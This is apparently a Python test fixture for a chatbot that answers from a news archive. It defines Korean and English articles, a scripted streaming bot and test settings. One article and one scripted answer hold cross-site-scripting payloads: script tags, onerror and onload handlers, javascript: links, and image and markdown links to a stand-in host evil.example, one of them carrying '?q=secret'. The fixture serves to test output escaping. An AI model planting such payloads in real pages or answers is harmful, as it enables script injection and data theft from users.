"""An archive of four articles and a chatbot that says what is written here: every answer can be worked out by hand."""

import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

from pydantic import SecretStr

from corpus.archive import Archive
from corpus.article import Article, Passage, Sentence, cut
from rag.answer import (
    Answer,
    Citation,
    Claim,
    Done,
    Event,
    Found,
    Hit,
    Narrowing,
    Query,
    Reading,
    Source,
    Turn,
    Understood,
    Verdict,
    Wrote,
)
from rag.sites import Site

EVIL = "https://evil.example"

# Paragraphs of sentences; a paragraph of one sentence that begins with "# " is a heading.
KOREAN = (
    ("한결통신은 10일 서울 본사에서 간담회를 열고 내년 투자 방향을 설명했다.",
     "이 자리에는 김한결 대표와 서도윤 네트워크부문장이 참석했다."),
    ("# 설비투자",),
    ("서 부문장은 통신망 역할이 줄어든다는 지적에 선을 그었다.",
     "그는 \"네트워크 설비투자를 축소할 계획은 전혀 없다\"고 말했다.",
     "올해 설비투자는 2조4000억 원으로 지난해보다 3% 늘어난다고 회사는 밝혔다."),
    ("# 인공지능",),
    ("김 대표는 인공지능 전환에 5년간 3조 원을 쓰겠다고 했다.",
     "투자 재원은 자회사 지분 매각으로 마련한다."),
    ("노조는 같은 날 성명을 내고 구체적인 인력 계획을 요구했다.",),
)  # fmt: skip
ENGLISH = (
    ("Hangyeol Telecom said on Thursday that it would not cut network spending.",
     "Capital expenditure will rise 3% to 2.4 trillion won this year, the company said.",
     "Chief executive Kim Han-gyeol called artificial intelligence an addition, not a replacement."),
    ("Analysts had expected a cut after the sale of two subsidiaries.",),
)  # fmt: skip
HOSTILE = (
    ("<script>window.hacked = 1; fetch('https://evil.example/s')</script>사고가 났다.",
     f"<img src=x onerror=\"window.hacked=2\"><img src='{EVIL}/i.png'> 회사는 부인했다.",
     f"![그림]({EVIL}/m.png?q=1) [누르세요](javascript:window.hacked=3) ${{window.hacked=4}} {{{{constructor}}}} </script>"),
    (f"<style>@import url({EVIL}/c.css);</style><svg onload=window.hacked=5></svg><iframe src={EVIL}></iframe>",),
)  # fmt: skip
HOSTILE_TITLE = f'</script><script>window.hacked=6</script><img src={EVIL}/t.png onerror=window.hacked=7> "><b>제목'


def compose(article: Article, paragraphs: Sequence[Sequence[str]]) -> tuple[Article, list[Sentence]]:
    """The article with this text, and its sentences."""
    text, ranges, headings = "", [], []
    for paragraph in paragraphs:
        text += "\n\n" if text else ""
        for at, sentence in enumerate(paragraph):
            said = sentence.removeprefix("# ")
            text += " " if at else ""
            ranges.append((len(text), len(text) + len(said)))
            if said != sentence:
                headings.append(ranges[-1])
            text += said
    whole = replace(article, text=text, headings=tuple(headings))
    return whole, cut(whole, ranges)


ARTICLES = {
    a.id: (a, s)
    for a, s in (
        compose(Article("kor0000001", "a.txt", "한결통신 \"네트워크 설비투자 축소 계획 없다\"", "", publisher="한빛경제",
                        published="2024-10-10T14:05:00+09:00", url="https://hanbit.example/news/1",
                        tagged=("한결통신",)), KOREAN),
        compose(Article("eng0000001", "b.txt", "Hangyeol Telecom rules out cut in network spending", "",
                        publisher="Harbour Wire", published="2024-10-11", url="https://harbour.example/2",
                        language="en"), ENGLISH),
        compose(Article("evil000001", "c.txt", HOSTILE_TITLE, "", publisher="<img src=x onerror=window.hacked=8>",
                        published="2025-03-02", url="javascript:window.hacked=9"), HOSTILE),
        compose(Article("old0000001", "d.txt", "날짜를 모르는 기사", ""), (("한 문장뿐인 기사다.",),)),
    )
}  # fmt: skip


def fill(folder: Path) -> Archive:
    """A real archive with these articles; each is one passage."""
    archive = Archive(folder, write=True)
    with archive.transaction():
        for article, sentences in ARTICLES.values():
            archive.add(article, sentences, [passage(article.id)])
    return archive


def passage(article_id: str) -> Passage:
    article, sentences = ARTICLES[article_id]
    return Passage(article_id, 0, 0, sentences[-1].number, 0, len(article.text), article.text)


def source(number: int, article_id: str, *sentences: int, copies: int = 0) -> Source:
    article, known = ARTICLES[article_id]
    return Source(number, article_id, article.title, article.publisher, article.published, article.url, article.language,
                  sentences, tuple(known[n].text for n in sentences), tuple(f"copy{n}" for n in range(copies)))  # fmt: skip


def quote(article_id: str, number: int, sentence: int) -> Claim:
    return Claim(ARTICLES[article_id][1][sentence].text, (Citation(number, article_id, (sentence,)),), quoted=True)


COVERAGE = "자료는 2024-10-10부터 2025-03-02까지의 기사 4건입니다."


READINGS = (
    Reading("company", "한결통신", ("한결통신",), "한결통신", 0, 4),
    Reading("published", "2024년 10월", ("2024-10-01", "2024-10-31"), "10월", 5, 8, hard=True),
)


def script(question: str, turns: Sequence[Turn]) -> Answer:
    """The answer to a question, by a word in it."""
    query = Query(question)
    claims: tuple[Claim, ...]
    if "HOSTILE" in question:
        claims = (
            quote("evil000001", 1, 0), quote("evil000001", 1, 1), quote("evil000001", 1, 2),
            Claim(f"![x]({EVIL}/?q=secret) <a href='javascript:window.hacked=10'>a</a> <{EVIL}/auto>",
                  (Citation(1, "evil000001", (3,)),), Verdict.UNSUPPORTED, "<img src=x onerror=window.hacked=11>"),
        )  # fmt: skip
        return Answer(
            question, query, claims, (source(1, "evil000001", 0, 1, 2, 3),), notice="<script>window.hacked=12</script>"
        )
    if "날씨" in question or "weather" in question:
        hits = tuple(Hit(passage(i), ARTICLES[i][0], 1.0, n) for n, i in enumerate(ARTICLES))
        korean = "날씨" in question
        return Answer(
            question, query if korean else Query(question, "en"), hits=hits,
            refusal="이 자료에는 물으신 것에 답할 문장이 없습니다." if korean else "No sentence in this archive answers the question.",
            coverage=COVERAGE if korean else "The archive holds 4 articles from 2024-10-10 to 2025-03-02.",
        )  # fmt: skip
    if "얼마" in question:
        before = turns[-1].question if turns else ""
        claims = (
            Claim("올해 설비투자는 2조4000억 원으로, 지난해보다 3% 늘어납니다.", (Citation(1, "kor0000001", (5,)),)),
            Claim("설비투자는 12월에 확정됩니다.", (Citation(2, "eng0000001", (1,)),), Verdict.PARTLY,
                  "‘12월’이 근거 문장에 없습니다."),
            Claim("주주총회도 이를 승인했습니다.", (), Verdict.UNSUPPORTED, "근거 문장이 없습니다."),
        )  # fmt: skip
        return Answer(
            question, Query(f"{before} {question}".strip(), companies=("한결통신",), since="2024-10-01", until="2024-10-31",
                            understood=READINGS),
            claims, (source(1, "kor0000001", 5, copies=3), source(2, "eng0000001", 1)), model="scripted",
        )  # fmt: skip
    if "바뀌" in question:
        changed = replace(source(1, "kor0000001", 5), superseded_by="eng0000001")
        return Answer(question, query, (quote("kor0000001", 1, 5),), (changed,))
    if "cut" in question:
        claims = (quote("eng0000001", 1, 0), quote("kor0000001", 2, 4))
        return Answer(
            question, Query(question, "en"), claims, (source(1, "eng0000001", 0), source(2, "kor0000001", 4, copies=1)),
            hits=tuple(Hit(passage(i), ARTICLES[i][0], 1.0, n) for n, i in enumerate(ARTICLES)),
            introduction="Sentences found in the articles:",
        )  # fmt: skip
    claims = (quote("kor0000001", 1, 4), quote("kor0000001", 1, 5))
    return Answer(
        question, query, claims, (source(1, "kor0000001", 4, 5, copies=3),), introduction="원문에서 찾은 문장입니다."
    )


@dataclass
class ScriptedChatbot:
    """Says what `script` says, word by word, `pause` seconds apart; remembers what it was asked."""

    archive: Archive
    pause: float = 0.0

    def __post_init__(self) -> None:
        self.asked: list[tuple[str, tuple[Turn, ...], str]] = []
        self.narrowed: list[Narrowing | None] = []  # what narrowed each of them
        self.left: list[str] = []  # questions whose answer nobody waited for

    def ask(
        self, question: str, turns: Sequence[Turn] = (), language: str = "", narrowing: Narrowing | None = None
    ) -> Answer:
        answer = None
        for event in self.stream(question, turns, language, narrowing):
            if isinstance(event, Done):
                answer = event.answer
        assert answer is not None
        return answer

    def stream(
        self, question: str, turns: Sequence[Turn] = (), language: str = "", narrowing: Narrowing | None = None
    ) -> Iterator[Event]:
        self.asked.append((question, tuple(turns), language))
        self.narrowed.append(narrowing)
        finished = False
        try:
            for event in self._events(question, turns, narrowing or Narrowing()):
                finished = isinstance(event, Done)
                yield event
        except GeneratorExit:
            if not finished:
                self.left.append(question)
            raise

    def _events(self, question: str, turns: Sequence[Turn], narrowing: Narrowing) -> Iterator[Event]:
        if len(question) > 4_000:
            raise ValueError(f"Question has {len(question):,} characters; at most 4,000 are read. Shorten it.")
        if "LATE" in question:
            time.sleep(1)
        if "BREAK" in question:
            raise RuntimeError("a secret detail of the server")
        answer = script(question, turns)
        kept = tuple(r for r in answer.query.understood if r.key not in narrowing.ignore)
        query = replace(
            answer.query, understood=kept, as_of=narrowing.as_of, publishers=narrowing.publishers,
            article_language=narrowing.article_language,
        )  # fmt: skip
        answer = replace(answer, query=query)
        yield Understood(answer.query)
        yield Found(answer.hits)
        for n, claim in enumerate(answer.claims):
            said = claim.text.split(" ")
            for end in range(1, len(said) + 1):
                time.sleep(self.pause)
                growing = replace(claim, text=" ".join(said[:end]), citations=claim.citations if end == len(said) else (),
                                  verdict=Verdict.SUPPORTED, reason="")  # fmt: skip
                yield Wrote((*answer.claims[:n], growing), answer.sources)
        yield Done(answer)


@dataclass(frozen=True)
class Settings:
    host: str = "127.0.0.1"
    port: int = 0
    origins: tuple[str, ...] = ()
    examples: tuple[str, ...] = ()
    sample: bool = False
    history: bool = True
    streams: int = 64
    metrics: bool = False
    mcp: bool = False
    openai_sources: bool = False
    # The names under which tests ask; the rest as in rag.settings.
    names: tuple[str, ...] = ("chat.corp.example", "testserver")
    anonymous: bool | None = None
    sites: tuple[Site, ...] = ()
    token_seconds: int = 300
    oidc_issuer: str = ""
    oidc_audience: str = ""
    oidc_keys: str = ""
    proxies: tuple[str, ...] = ()
    proxy_secret: SecretStr | None = None
    proxy_user: str = "X-Forwarded-User"
    reader_scopes: tuple[str, ...] = ("ask", "read", "feedback")
    admins: tuple[str, ...] = ()
    upload_megabytes: int = 20
    reports: Path | None = None
    sync_sources: tuple[str, ...] = ()
    # Tests ask faster than readers.
    questions_per_minute: int = 100_000
    requests_per_minute: int = 1_000_000
    address_per_minute: int = 1_000_000
